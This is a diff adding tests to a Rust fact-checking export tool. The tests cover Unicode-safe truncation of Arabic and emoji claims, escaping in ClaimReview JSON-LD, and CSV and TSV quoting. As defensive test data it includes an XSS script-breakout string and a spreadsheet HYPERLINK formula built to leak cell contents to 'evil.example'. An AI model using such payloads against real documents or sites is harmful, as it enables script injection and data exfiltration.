@@ -12,6 +12,7 @@ use hamish::core::exchange::claimreview::{claim_url, shorten, CLAIM_MAX};
 use hamish::core::exchange::tables::{ARAFACTS_COLUMNS, CHECKTHAT_COLUMNS};
 use hamish::core::exchange::{Export, ForeignReason, Format};
 use hamish::core::text::article::Article;
+use hamish::core::text::graphemes::{marks_join, unicode_clusters, use_segmenter, ClusterLengths};
 use hamish::core::text::units::slice_cp;
 use hamish::core::w3c::import::{merge, Parsed, RejectReason};
 use hamish::i18n::Lang;
@@ -140,6 +141,32 @@ fn claims_are_shortened_on_a_word_boundary() {
     }
     let exact: String = "ا".repeat(CLAIM_MAX);
     assert_eq!(shorten(&exact), exact);
+    // No space: the cut falls between letter clusters, under Unicode's segmentation and under the
+    // bundle's fallback (marks_join). (text, what is kept before the ellipsis.)
+    let alefs = |n: usize| "ا".repeat(n);
+    let family = "👨\u{200D}👩\u{200D}👧";
+    let mid: [(String, String); 5] = [
+        // بِّ (ba, kasra, shadda) with its shadda at the limit: the whole letter goes.
+        (format!("{}بِّ{}", alefs(72), alefs(10)), alefs(72)),
+        // The shadda alone at the limit.
+        (format!("{}بّ{}", alefs(73), alefs(10)), alefs(73)),
+        // A letter starts at the limit: cut there, as before.
+        (format!("{}بِّ{}", alefs(74), alefs(10)), alefs(74)),
+        // An emoji ZWJ sequence across the limit stays whole (here: left out).
+        (format!("{}{family}{}", alefs(72), alefs(10)), alefs(72)),
+        // One that ends just before the limit is kept.
+        (
+            format!("{}{family}{}", alefs(69), alefs(10)),
+            format!("{}{family}", alefs(69)),
+        ),
+    ];
+    for segmenter in [unicode_clusters as ClusterLengths, marks_join] {
+        use_segmenter(segmenter);
+        for (quote, kept) in &mid {
+            assert_eq!(shorten(quote), format!("{kept}…"), "{quote}");
+        }
+    }
+    use_segmenter(unicode_clusters);
     assert_eq!(
         claim_url("https://news.example/a#top", "urn:x:1"),
         "https://news.example/a#hamish-claim=urn:x:1"
@@ -224,6 +251,43 @@ fn claimreview_has_one_review_per_claim_with_a_verdict() {
         by("urn:x:state")["itemReviewed"]["author"],
         json!({ "@type": "Organization", "name": "الحكومة الروسية", "sameAs": "http://www.wikidata.org/entity/Q159" })
     );
+}
+
+#[test]
+fn claimreview_never_closes_a_script_element() {
+    let a = article();
+    let hostile = "</script><script>alert(1)</script><!--";
+    // Where outside text reaches the file: the quote, the claimant's name, the reviewer.
+    let mut claim = annotate(&a, ADVICE, Kind::Claim, "urn:x:<script>");
+    claim.target.exact = format!("قال {hostile}");
+    claim.claim.verdict = Some("false".into());
+    claim.claim.claimant = Some(Claimant::Named {
+        name: hostile.into(),
+        wikidata: None,
+    });
+    let reviewer = Reviewer {
+        name: String::new(),
+        organization: format!("<b>{hostile}"),
+        url: format!("https://misbar.example/{hostile}"),
+    };
+    let text = write_these(&[claim], &reviewer, Format::ClaimReview);
+    assert!(!text.contains('<'), "{text}");
+    assert!(text.contains("\\u003c/script>"));
+    let doc: Value = serde_json::from_str(&text).expect("still JSON");
+    let review = &doc["@graph"][0];
+    let cases = [
+        (&review["claimReviewed"], format!("قال {hostile}")),
+        (&review["itemReviewed"]["author"]["name"], hostile.into()),
+        (&review["author"]["name"], format!("<b>{hostile}")),
+        (
+            &review["author"]["url"],
+            format!("https://misbar.example/{hostile}"),
+        ),
+        (&review["url"], claim_url(&a.source, "urn:x:<script>")),
+    ];
+    for (got, want) in cases {
+        assert_eq!(got, &Value::String(want));
+    }
 }
 
 /// A tiny RFC 4180 reader: records of fields; quoted fields may hold commas, quotes (doubled) and
@@ -340,6 +404,72 @@ fn arafacts_csv_reads_back_field_by_field() {
     }
 }
 
+/// The file of `format` for `annotations` alone, labels in English.
+fn write_these(annotations: &[Annotation], reviewer: &Reviewer, format: Format) -> String {
+    let a = article();
+    let (registry, scale) = (default_registry(), default_scale());
+    Export {
+        annotations,
+        article: &a,
+        registry: &registry,
+        scale: &scale,
+        reviewer,
+        arabic: false,
+    }
+    .write(format, "urn:x:export", NOW)
+}
+
+#[test]
+fn arafacts_csv_cells_never_start_a_formula() {
+    // (a cell's text, what a spreadsheet is given): OWASP's characters get a `'` before them.
+    let cases = [
+        ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")", true),
+        ("+1+2", true),
+        ("-2+3", true),
+        ("@SUM(A1:A9)", true),
+        ("\t=1+1", true),
+        ("\r=1+1", true),
+        ("سقوط =1", false),
+        ("'already quoted", false),
+        ("", false),
+    ];
+    let a = article();
+    for (hostile, guarded) in cases {
+        let want = if guarded {
+            format!("'{hostile}")
+        } else {
+            hostile.to_string()
+        };
+        let mut claim = annotate(&a, ADVICE, Kind::Claim, hostile);
+        claim.target.exact = hostile.into();
+        claim.note = hostile.into();
+        claim.claim.date = Some(hostile.into());
+        let reviewer = Reviewer {
+            name: String::new(),
+            organization: format!("{hostile}x"),
+            url: String::new(),
+        };
+        let text = write_these(&[claim], &reviewer, Format::AraFactsCsv);
+        let records = read_csv(text.trim_start_matches('\u{feff}'));
+        let row = &records[1];
+        // id, quote, note, date; the organisation is trimmed first (a tab or CR before it goes).
+        for column in [0, 1, 2, 4] {
+            assert_eq!(row[column], want, "{hostile:?} in column {column}");
+        }
+        let org = format!("{hostile}x");
+        let org = org.trim();
+        let org_guarded = org.starts_with(['=', '+', '-', '@']);
+        assert_eq!(
+            row[3],
+            if org_guarded {
+                format!("'{org}")
+            } else {
+                org.to_string()
+            }
+        );
+    }
+}
+
 #[test]
 fn checkthat_tsv_lists_decided_claims_on_one_line_each() {
     let a = article();
@@ -371,6 +501,104 @@ fn checkthat_tsv_lists_decided_claims_on_one_line_each() {
         tsv.lines().nth(1).map(|l| l.split('\t').nth(2)),
         Some(Some("سطر أول  ثانٍ"))
     );
+}
+
+/// A TSV read as Python's `csv.reader(f, delimiter='\t')` reads it: a field starting with a quote is
+/// quoted (doubled quotes inside, up to the closing quote); records end with LF.
+fn read_tsv(text: &str) -> Vec<Vec<String>> {
+    let mut records = Vec::new();
+    for line in text.lines() {
+        let mut record = Vec::new();
+        for raw in line.split('\t') {
+            let field = match raw.strip_prefix('"').and_then(|r| r.strip_suffix('"')) {
+                Some(inner) => {
+                    assert!(
+                        !inner.replace("\"\"", "").contains('"'),
+                        "a lone quote inside {raw:?}"
+                    );
+                    inner.replace("\"\"", "\"")
+                }
+                None => {
+                    assert!(!raw.starts_with('"'), "an unclosed quote in {raw:?}");
+                    raw.to_string()
+                }
+            };
+            record.push(field);
+        }
+        records.push(record);
+    }
+    records
+}
+
+/// `tsv` as Python's csv module reads it (`csv.reader(f, delimiter='\t')`).
+fn python_reads_tsv(tsv: &str) -> Vec<Vec<String>> {
+    let file = std::env::temp_dir().join(format!("hamish-tsv-{}.tsv", std::process::id()));
+    std::fs::write(&file, tsv).expect("write");
+    let script = "import csv, json, sys\n\
+        with open(sys.argv[1], newline='', encoding='utf-8') as f:\n\
+        \x20   print(json.dumps(list(csv.reader(f, delimiter='\\t'))))";
+    let out = std::process::Command::new("python3")
+        .args(["-c", script])
+        .arg(&file)
+        .output()
+        .expect("run python3");
+    let _ = std::fs::remove_file(&file);
+    assert!(
+        out.status.success(),
+        "python3: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).expect("JSON from python3")
+}
+
+#[test]
+fn checkthat_tsv_reads_back_with_quotes_in_the_text() {
+    let a = article();
+    // (the claim's text, as a reader gets it back): tabs and line breaks are spaces, quotes stay.
+    let cases = [
+        (
+            "\"سننسحب من المدينة\" قال المتحدث",
+            "\"سننسحب من المدينة\" قال المتحدث",
+        ),
+        ("قال: \"لن\" نتراجع", "قال: \"لن\" نتراجع"),
+        ("\"", "\""),
+        ("\"\"\"", "\"\"\""),
+        ("\"سطر\tأول\nثانٍ\"", "\"سطر أول ثانٍ\""),
+        ("بلا علامات", "بلا علامات"),
+    ];
+    let claims: Vec<Annotation> = cases
+        .iter()
+        .enumerate()
+        .map(|(i, (text, _))| {
+            let mut claim = annotate(&a, ADVICE, Kind::Claim, &format!("urn:x:\"{i}"));
+            claim.target.exact = (*text).into();
+            claim.claim.check_worthy = Some(i % 2 == 0);
+            claim
+        })
+        .collect();
+    let tsv = write_these(&claims, &Reviewer::default(), Format::CheckThatTsv);
+    let mut want: Vec<Vec<String>> = cases
+        .iter()
+        .enumerate()
+        .map(|(i, (_, text))| {
+            vec![
+                format!("urn:x:\"{i}"),
+                a.source.clone(),
+                (*text).to_string(),
+                (if i % 2 == 0 { "Yes" } else { "No" }).to_string(),
+            ]
+        })
+        .collect();
+    want.sort();
+    // Rows sorted: claims on one quote have no reading order between them.
+    for (reader, mut rows) in [
+        ("ours", read_tsv(&tsv)),
+        ("Python's", python_reads_tsv(&tsv)),
+    ] {
+        assert_eq!(rows[0], CHECKTHAT_COLUMNS, "{reader}");
+        rows[1..].sort();
+        assert_eq!(rows[1..], want, "{reader}");
+    }
 }
 
 #[test]
